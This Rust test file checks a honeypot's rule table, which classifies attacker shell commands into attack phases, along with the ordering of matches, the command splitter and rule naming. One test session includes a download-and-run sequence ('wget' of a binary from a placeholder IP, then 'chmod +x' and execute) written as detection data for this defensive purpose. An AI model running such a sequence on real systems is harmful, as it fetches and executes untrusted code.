//! Phase inference end to end through the core: the shipped rule table
//! (`config/phases.toml`) against honeypot-style command lines, first/last
//! ordering, the command-line splitter, overlays and validation errors.

#[path = "phase_rules/cases.rs"]
mod cases;

#[path = "phase_rules/table.rs"]
mod table;
use cases::CASES;
use decnet_clusterd::phase::Phase::{self, *};
use decnet_clusterd::phase_rules::{split_command_line, PhaseRules};
use std::collections::BTreeSet;
use table::shipped;

fn hits(rules: &PhaseRules, line: &str) -> Vec<String> {
    split_command_line(line)
        .iter()
        .filter_map(|c| rules.classify(c).map(|r| r.id.to_string()))
        .collect()
}

#[test]
fn each_case_hits_its_rules_in_order_and_gives_its_phases() {
    let rules = shipped();
    for (line, first, last, expected) in CASES {
        assert_eq!(hits(rules, line), *expected, "rules hit by {line:?}");
        let got = rules.infer(&[*line]).expect("a phase");
        assert_eq!(
            (got.first.phase, got.last.phase),
            (*first, *last),
            "{line:?}"
        );
        assert_eq!(got.first.tactic, first.tactic().unwrap());
        assert_eq!(got.last.tactic, last.tactic().unwrap());
        assert_eq!(&*got.first.rule, expected[0]);
        assert_eq!(&*got.last.rule, *expected.last().unwrap());
    }
}

#[test]
fn every_shipped_rule_is_hit_by_some_case() {
    let rules = shipped();
    let hit: BTreeSet<&str> = CASES.iter().flat_map(|c| c.3.iter().copied()).collect();
    let missing: Vec<&str> = rules
        .rules()
        .iter()
        .map(|r| &*r.id)
        .filter(|id| !hit.contains(id))
        .collect();
    assert!(missing.is_empty(), "rules no case hits: {missing:?}");
    assert!(rules.rules().len() >= 60);
}

#[test]
fn shipped_ids_are_named_after_their_phase_and_every_rule_has_a_comment() {
    for rule in shipped().rules() {
        assert!(
            rule.id.starts_with(&format!("{}.", rule.phase.name())),
            "{}",
            rule.id
        );
        assert!(rule.comment.len() > 20, "{}", rule.id);
        assert_eq!(Phase::from_tactic(rule.tactic), Some(rule.phase));
    }
}

#[test]
fn ordinary_commands_infer_nothing() {
    let rules = shipped();
    for c in [
        "cd /tmp",
        "echo hello",
        "exit",
        "cat /tmp/id",
        "ls-la",
        "",
        "   ;;; && || |",
    ] {
        assert_eq!(rules.infer(&[c]), None, "{c:?}");
    }
}

#[test]
fn first_and_last_follow_the_typed_order() {
    let rules = shipped();
    let session = [
        "cd /tmp",
        "uname -a",
        "wget http://198.51.100.7/b",
        "echo ok",
        "chmod +x b; ./b",
        "exit",
    ];
    let got = rules.infer(&session).unwrap();
    assert_eq!(got.first.phase, Discovery);
    assert_eq!(got.first.position, 1);
    assert_eq!(&*got.first.rule, "discovery.system-info");
    assert_eq!(got.last.phase, Execution);
    assert_eq!(got.last.position, 4);
    assert_eq!(&*got.last.rule, "execution.run-local");

    // Reversed order, reversed ends: the chain order of phases plays no part.
    let reversed: Vec<&str> = session.iter().rev().copied().collect();
    let got = rules.infer(&reversed).unwrap();
    assert_eq!(got.first.phase, Execution);
    assert_eq!(got.first.position, 1);
    assert_eq!(&*got.first.rule, "execution.chmod-exec");
    assert_eq!(got.last.phase, Discovery);
    assert_eq!(got.last.position, 4);

    // One matching command: first and last are the same match.
    let got = rules.infer(&["echo a", "id"]).unwrap();
    assert_eq!(got.first, got.last);

    // Owned strings work too.
    let owned: Vec<String> = vec!["whoami".into()];
    assert_eq!(rules.infer(&owned).unwrap().first.phase, Discovery);
}
